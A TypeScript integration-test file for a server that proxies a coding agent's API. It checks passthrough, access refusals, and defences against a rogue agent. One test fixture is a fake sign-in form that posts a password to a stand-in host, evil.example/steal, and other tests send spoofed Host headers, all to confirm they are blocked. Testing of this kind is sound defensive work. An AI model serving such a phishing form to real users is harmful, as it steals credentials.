import fs from "node:fs/promises";
import http from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { EventSourceParserStream, type EventSourceMessage } from "eventsource-parser/stream";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { z } from "zod";
import { baseUrl, createTestUser, echoTemplateVersion, raw, type RawResponse, type TestUser } from "../support/api";
import { TaskFixture, testSql } from "../support/db";
import { NOT_FOUND } from "../support/expect";
import { deadAddress, startEchoAgent, type EchoAgent } from "../support/echo-agent";

/*
 * The shapes of coder/agentapi's openapi.json (0.12.1). Every body there is
 * `additionalProperties: false`; response bodies also allow huma's read-only `$schema` link.
 */
const $schema = z.url().optional();
const AgentStatus = z.enum(["running", "stable"]);
const ConversationRole = z.enum(["agent", "user"]);
const DateTime = z.iso.datetime({ offset: true });

const Message = z.strictObject({ id: z.int(), content: z.string(), role: ConversationRole, time: DateTime });
const StatusResponseBody = z.strictObject({ $schema, status: AgentStatus, agent_type: z.string(), transport: z.enum(["pty", "acp"]) });
const MessagesResponseBody = z.strictObject({ $schema, messages: z.array(Message) });
const MessageResponseBody = z.strictObject({ $schema, ok: z.boolean() });
const UploadResponseBody = z.strictObject({ $schema, ok: z.boolean(), filePath: z.string() });
const MessageUpdateBody = z.strictObject({ id: z.int(), message: z.string(), role: ConversationRole, time: DateTime });
const StatusChangeBody = z.strictObject({ status: AgentStatus, agent_type: z.string() });
/** agentapi's ErrorModel (RFC 7807), as far as this agent fills it in. */
const ErrorModel = z.strictObject({
  $schema,
  type: z.string().optional(),
  title: z.string(),
  status: z.int(),
  detail: z.string(),
  instance: z.string().optional(),
  errors: z.array(z.unknown()).nullable().optional(),
});

/** The API's own policy: an answer from /api is never a page that could run, load or post anything. */
const API_CSP = "default-src 'none'; form-action 'none'; frame-ancestors 'none'; sandbox";

const PREFIXES = ["/api/v2", "/api/experimental"] as const;
const ENDPOINTS = [
  { name: "status", method: "GET" },
  { name: "messages", method: "GET" },
  { name: "events", method: "GET" },
  { name: "message", method: "POST" },
  { name: "upload", method: "POST" },
] as const;

const sql = testSql();
let version: string;
let alice: TestUser;
let bob: TestUser;
let agent: EchoAgent;
let spy: Spy;

type Spy = { url: string; requests: string[]; close: () => Promise<void> };

/** An "agent" that records every request it gets: the rejected calls must never reach it. */
async function startSpy(): Promise<Spy> {
  const requests: string[] = [];
  const server = http.createServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    req.resume();
    res.writeHead(200, { "content-type": "application/json" });
    res.end(JSON.stringify({ status: "stable", agent_type: "spy", transport: "acp" }));
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    requests,
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

beforeAll(async () => {
  version = await echoTemplateVersion();
  [alice, bob] = await Promise.all([createTestUser(), createTestUser()]);
  agent = await startEchoAgent([
    { role: "user", content: "Fix the flaky test" },
    { role: "agent", content: "You said: Fix the flaky test" },
  ]);
  spy = await startSpy();
});

afterAll(async () => {
  await agent?.close();
  await spy?.close();
});

type Task = { id: string; name: string; workspace_id: string };

/** One of alice's tasks, made active (or paused) in SQL, its agent at `target`. */
async function aliceTask(target: { url: string; secret?: string | null }, state: "active" | "paused" = "active"): Promise<Task> {
  const res = await raw("POST", "/api/v2/tasks/me", { token: alice.token, body: { input: "Fix the flaky test", template_version_id: version } });
  expect(res.status).toBe(201);
  const fixture = await TaskFixture.of(sql, res.body.id);
  await fixture.running({ apiUrl: target.url, apiSecret: target.secret ?? null });
  if (state === "paused") await fixture.addBuild("stop", "succeeded");
  const got = await raw("GET", `/api/v2/tasks/me/${res.body.id}`, { token: alice.token });
  expect(got.body.status).toBe(state);
  return res.body;
}

const direct = (endpoint: string) => fetch(`${agent.url}/${endpoint}`, { headers: { authorization: `Bearer ${agent.secret}` } });

/** The agent's problem JSON, passed through as the agent wrote it. */
function expectProblem(res: RawResponse, status: number) {
  expect(res.status, res.text).toBe(status);
  expect(res.headers.get("content-type")).toBe("application/problem+json");
  const problem = ErrorModel.parse(res.body);
  expect(problem.status).toBe(status);
  return problem;
}

/**
 * The server's own refusals on `/agentapi/*`, as AgentAPI answers errors (its clients show
 * `detail`): problem JSON, the reason in `detail`.
 */
function expectOurProblem(res: RawResponse, status: number, detail?: string | RegExp) {
  const problem = expectProblem(res, status);
  expect(problem.title.length).toBeGreaterThan(0);
  if (typeof detail === "string") expect(problem.detail).toBe(detail);
  else if (detail) expect(problem.detail).toMatch(detail);
  return problem;
}

/** An SSE stream through the server, parsed event by event. */
async function openEvents(url: string, token: string) {
  const controller = new AbortController();
  const res = await fetch(url, { headers: { "Coder-Session-Token": token, accept: "text/event-stream" }, signal: controller.signal });
  expect(res.status).toBe(200);
  expect(res.headers.get("content-type")).toMatch(/^text\/event-stream/);
  expect(res.headers.get("content-security-policy")).toBe(API_CSP);
  const reader = res.body!.pipeThrough(new TextDecoderStream()).pipeThrough(new EventSourceParserStream()).getReader();
  const seen: EventSourceMessage[] = [];
  /** Reads until `done(seen)` holds, or fails after `timeoutMs`. */
  const readUntil = async (done: (events: EventSourceMessage[]) => boolean, timeoutMs = 10_000) => {
    const deadline = Date.now() + timeoutMs;
    while (!done(seen)) {
      const left = deadline - Date.now();
      if (left <= 0) throw new Error(`events so far: ${JSON.stringify(seen)}`);
      let timer: NodeJS.Timeout | undefined;
      const next = await Promise.race([
        reader.read(),
        new Promise<"timeout">((resolve) => {
          timer = setTimeout(() => resolve("timeout"), left);
        }),
      ]).finally(() => clearTimeout(timer));
      if (next === "timeout") throw new Error(`timed out; events so far: ${JSON.stringify(seen)}`);
      if (next.done) throw new Error(`the stream ended; events so far: ${JSON.stringify(seen)}`);
      seen.push(next.value);
    }
    return seen;
  };
  const close = async () => {
    controller.abort();
    await reader.cancel().catch(() => {});
  };
  return { readUntil, close, seen };
}

const updates = (events: EventSourceMessage[]) => events.filter((e) => e.event === "message_update").map((e) => MessageUpdateBody.parse(JSON.parse(e.data)));
const statusChanges = (events: EventSourceMessage[]) => events.filter((e) => e.event === "status_change").map((e) => StatusChangeBody.parse(JSON.parse(e.data)));

for (const prefix of PREFIXES) {
  describe(`${prefix}/tasks/{user}/{task}/agentapi/*: the task's agent, through the server`, () => {
    let task: Task;
    const at = (endpoint: string, t: Task = task, user = "me") => `${prefix}/tasks/${user}/${t.id}/agentapi/${endpoint}`;

    beforeAll(async () => {
      task = await aliceTask(agent);
    });

    it("GET status and messages are the agent's own answers, byte for byte, and match agentapi's schemas", async () => {
      await agent.untilStable();
      for (const endpoint of ["status", "messages"]) {
        const theirs = await direct(endpoint);
        const theirText = await theirs.text();
        for (const [user, ref] of [
          ["me", task.id],
          [alice.username, task.name],
        ]) {
          const ours = await raw("GET", `${prefix}/tasks/${user}/${ref}/agentapi/${endpoint}`, { token: alice.token });
          expect(ours.status, ours.text).toBe(theirs.status);
          expect(ours.headers.get("content-type")).toBe(theirs.headers.get("content-type"));
          expect(ours.headers.get("content-security-policy")).toBe(API_CSP);
          expect(ours.text).toBe(theirText);
        }
      }

      const status = StatusResponseBody.parse((await raw("GET", at("status"), { token: alice.token })).body);
      expect(status).toEqual({ status: "stable", agent_type: "custom", transport: "acp" });
      const { messages } = MessagesResponseBody.parse((await raw("GET", at("messages"), { token: alice.token })).body);
      expect(messages.map(({ role, content }) => ({ role, content }))).toEqual(agent.said());
      expect(messages.map((m) => m.id)).toEqual(messages.map((_, i) => i));
    });

    it("POST message reaches the agent, which answers; a non-JSON body gets the agent's 415 and adds nothing", async () => {
      await agent.untilStable();
      const content = `Through ${prefix}: rename the helper`;
      const res = await raw("POST", at("message"), { token: alice.token, body: { content, type: "user" } });
      expect(res.status, res.text).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/json");
      expect(MessageResponseBody.parse(res.body)).toEqual({ ok: true });
      await agent.untilStable();
      expect(agent.said().slice(-2)).toEqual([
        { role: "user", content },
        { role: "agent", content: `You said: ${content}` },
      ]);

      const before = agent.said();
      const plain = await raw("POST", at("message"), {
        token: alice.token,
        rawBody: JSON.stringify({ content: "as text/plain", type: "user" }),
        headers: { "content-type": "text/plain" },
      });
      expect(expectProblem(plain, 415).title).toBe("Unsupported Media Type");
      expect(agent.said()).toEqual(before);
      expect(agent.brain.status()).toBe("stable");

      // Follow-up input like /send: no longer than a prompt may be, and refused the same way.
      const tooLong = await raw("POST", at("message"), { token: alice.token, body: { content: "x".repeat(32 * 1024 + 1), type: "user" } });
      expectOurProblem(tooLong, 400, `Invalid request. content: must be at most ${32 * 1024} bytes.`);
      expect(tooLong.body.errors).toEqual([{ message: `must be at most ${32 * 1024} bytes`, location: "body.content" }]);
      expect(agent.said()).toEqual(before);
    });

    it("GET events streams the agent's SSE: the conversation so far, its status, then what happens live", async () => {
      await agent.untilStable();
      const existing = agent.brain.messages();
      const stream = await openEvents(`${baseUrl()}${at("events")}`, alice.token);
      try {
        await stream.readUntil((events) => updates(events).length >= existing.length && statusChanges(events).length >= 1);
        expect(updates(stream.seen).slice(0, existing.length)).toEqual(existing.map((m) => ({ id: m.id, role: m.role, message: m.content, time: m.time })));
        expect(statusChanges(stream.seen)[0]).toEqual({ status: "stable", agent_type: "custom" });
        for (const e of stream.seen) expect(["message_update", "status_change"]).toContain(e.event);

        // Live: a message sent now shows up on the open stream, so the server does not buffer it.
        const content = `Live over ${prefix}`;
        expect((await raw("POST", at("message"), { token: alice.token, body: { content, type: "user" } })).status).toBe(200);
        await stream.readUntil((events) => updates(events).some((u) => u.role === "agent" && u.message === `You said: ${content}`) && statusChanges(events).at(-1)?.status === "stable");
        expect(updates(stream.seen).find((u) => u.role === "user" && u.message === content)).toBeDefined();
        expect(statusChanges(stream.seen).map((s) => s.status)).toContain("running");
      } finally {
        await stream.close();
      }
      await agent.untilStable();
    });

    it("POST upload stores the file in the agent's workspace, same bytes; a form without a file gets the agent's 400", async () => {
      const bytes = new Uint8Array([...Buffer.from(`notes for ${prefix}\n`), 0x00, 0xff, 0xfe, 0x80, 0x0a]);
      const form = new FormData();
      form.append("file", new Blob([bytes], { type: "application/octet-stream" }), "notes.bin");
      const res = await raw("POST", at("upload"), { token: alice.token, rawBody: form });
      expect(res.status, res.text).toBe(200);
      expect(res.headers.get("content-type")).toBe("application/json");
      const body = UploadResponseBody.parse(res.body);
      expect(body.ok).toBe(true);
      expect(path.dirname(body.filePath)).toBe(path.join(agent.dir, "uploads"));
      expect(path.basename(body.filePath)).toMatch(/^notes(-\d+)?\.bin$/);
      expect(new Uint8Array(await fs.readFile(body.filePath))).toEqual(bytes);

      const listing = await fs.readdir(path.join(agent.dir, "uploads"));
      const noFile = new FormData();
      noFile.append("note", "no file here");
      const rejected = await raw("POST", at("upload"), { token: alice.token, rawBody: noFile });
      expect(expectProblem(rejected, 400).detail).toMatch(/file/);
      expect(await fs.readdir(path.join(agent.dir, "uploads"))).toEqual(listing);
    });

    describe("refusals, in AgentAPI's error shape, that never reach the agent", () => {
      let spied: Task;
      beforeAll(async () => {
        spied = await aliceTask(spy);
      });

      const call = (method: string, endpoint: string, t: Task, token?: string, user = "me") =>
        raw(method, at(endpoint, t, user), {
          token,
          ...(endpoint === "message" && method === "POST" ? { body: { content: "hijacked", type: "user" } } : {}),
        });

      it("someone else's task is 404 (the same as no task) on every endpoint, whoever it is addressed by", async () => {
        const before = agent.said();
        for (const t of [spied, task]) {
          for (const { name, method } of ENDPOINTS) {
            for (const user of ["me", alice.username, alice.id]) {
              const res = await call(method, name, t, bob.token, user);
              expectOurProblem(res, 404, `${NOT_FOUND}.`);
              expect(res.body).toEqual({ title: "Not Found", status: 404, detail: `${NOT_FOUND}.` });
            }
          }
        }
        const missing = await call("GET", "status", { ...spied, id: "0f1e2d3c-4b5a-4968-8776-a5b4c3d2e1f0" }, alice.token);
        expect(missing.body).toEqual({ title: "Not Found", status: 404, detail: `${NOT_FOUND}.` });
        expect(spy.requests).toEqual([]);
        expect(agent.said()).toEqual(before);
        expect(agent.brain.status()).toBe("stable");
      });

      it("no token is 401", async () => {
        for (const { name, method } of ENDPOINTS) expectOurProblem(await call(method, name, spied), 401, /authenticated/);
        expect(spy.requests).toEqual([]);
      });

      it("an endpoint agentapi has but the server does not pass on is 404", async () => {
        for (const name of ["screen", "internal", "openapi.json", "Status"]) {
          expectOurProblem(await call("GET", name, spied, alice.token), 404, `${NOT_FOUND}.`);
        }
        expect(spy.requests).toEqual([]);
      });

      it("the wrong method is 405", async () => {
        for (const { name, method } of ENDPOINTS) {
          const res = await raw(method === "GET" ? "POST" : "GET", at(name, spied), { token: alice.token });
          expect(expectOurProblem(res, 405).detail).toContain(method);
        }
        expect(spy.requests).toEqual([]);
      });

      it("a paused task is 409, saying what to do in detail (what AgentAPI's chat shows)", async () => {
        const paused = await aliceTask(spy, "paused");
        for (const { name, method } of ENDPOINTS) {
          const res = await call(method, name, paused, alice.token);
          expectOurProblem(res, 409, "The task's agent is not running: the task is paused. Resume the task first.");
          expect(res.body.title).toBe("Conflict");
        }
        expect(spy.requests).toEqual([]);
      });

      it("an agent nobody answers at is 502", async () => {
        const dead = await aliceTask({ url: await deadAddress(), secret: "unused" });
        for (const { name, method } of ENDPOINTS) expectOurProblem(await call(method, name, dead, alice.token), 502, /Failed to reach the task's agent\. .+/);
      });
    });
  });
}

/**
 * An agent gone bad (it can register its own server): answers every request with whatever type
 * and body it is set to — a fake sign-in page posting to another host, say.
 */
async function startImpostor() {
  let answer: { type?: string; body: string } = { type: "application/json", body: "{}" };
  const server = http.createServer((req, res) => {
    req.resume();
    res.writeHead(200, answer.type === undefined ? {} : { "content-type": answer.type });
    res.end(answer.body);
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${(server.address() as AddressInfo).port}`,
    answer: (type: string | undefined, body: string) => (answer = { type, body }),
    close: () =>
      new Promise<void>((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}

describe("an agent's answer passes through only as what the endpoint claims to answer", () => {
  let impostor: Awaited<ReturnType<typeof startImpostor>>;
  let task: Task;
  const at = (endpoint: string) => `/api/v2/tasks/me/${task.id}/agentapi/${endpoint}`;
  const call = (method: string, endpoint: string) =>
    raw(method, at(endpoint), { token: alice.token, ...(method === "POST" ? { body: { content: "hello", type: "user" } } : {}) });
  const PHISHING = `<!doctype html><title>Sign in</title><form method="post" action="https://evil.example/steal"><input name="password" type="password"><button>Sign in</button></form>`;

  beforeAll(async () => {
    impostor = await startImpostor();
    task = await aliceTask(impostor);
  });
  afterAll(async () => {
    await impostor?.close();
  });

  it("a fake sign-in page (text/html) from the agent is a 502 in AgentAPI's error shape on every endpoint, never the page", async () => {
    impostor.answer("text/html; charset=utf-8", PHISHING);
    for (const { name, method } of ENDPOINTS) {
      const res = await call(method, name);
      expectOurProblem(res, 502, /content type/);
      expect(res.headers.get("content-security-policy")).toBe(API_CSP);
      expect(res.text).not.toContain("<form");
      expect(res.body.detail).toContain("text/html");
    }
  });

  it("nor any other type a browser might render or run, a missing one, or a list smuggling one in", async () => {
    for (const type of [undefined, "", "TEXT/HTML", "application/xhtml+xml", "image/svg+xml", "text/plain", "application/javascript", "text/xml", "application/json, text/html", "text/event-stream"]) {
      impostor.answer(type, PHISHING);
      expectOurProblem(await call("GET", "status"), 502, /content type/);
    }
    // The event stream is server-sent events and nothing else, JSON included.
    for (const type of ["application/json", "text/html", "text/plain"]) {
      impostor.answer(type, "{}");
      expectOurProblem(await call("GET", "events"), 502, /content type/);
    }
  });

  it("JSON stays JSON (whatever its parameters), answered in the server's own spelling, under the API's policy", async () => {
    impostor.answer("Application/JSON; charset=utf-8; x=<script>", `{"status":"stable","agent_type":"custom","transport":"acp"}`);
    const res = await call("GET", "status");
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toBe("application/json");
    expect(res.headers.get("content-security-policy")).toBe(API_CSP);
    expect(res.body).toEqual({ status: "stable", agent_type: "custom", transport: "acp" });
  });
});

describe("the agent's own port", () => {
  it("refuses a request without its secret, or with the wrong one (401)", async () => {
    const attempts: Record<string, string>[] = [{}, { authorization: "Bearer wrong" }, { authorization: `Bearer ${agent.secret}x` }, { "coder-session-token": alice.token }];
    for (const headers of attempts) {
      const res = await fetch(`${agent.url}/status`, { headers });
      expect(res.status).toBe(401);
      expect(res.headers.get("content-type")).toBe("application/problem+json");
      expect(ErrorModel.parse(await res.json())).toMatchObject({ status: 401 });
    }
    expect((await direct("status")).status).toBe(200);
  });

  it("refuses a request addressed to a foreign Host even with the secret (403)", async () => {
    const { port } = new URL(agent.url);
    for (const host of [`evil.example:${port}`, "evil.example", `127.0.0.1.nip.io:${port}`]) {
      const res = await new Promise<{ status: number; type: string | undefined; body: string }>((resolve, reject) => {
        const req = http.request({ host: "127.0.0.1", port: Number(port), path: "/status", headers: { host, authorization: `Bearer ${agent.secret}` } }, (r) => {
          let body = "";
          r.setEncoding("utf8");
          r.on("data", (c: string) => (body += c));
          r.on("end", () => resolve({ status: r.statusCode ?? 0, type: r.headers["content-type"], body }));
        });
        req.on("error", reject);
        req.end();
      });
      expect(res.status, host).toBe(403);
      expect(res.type).toBe("application/problem+json");
      expect(ErrorModel.parse(JSON.parse(res.body))).toMatchObject({ status: 403 });
    }
  });
});
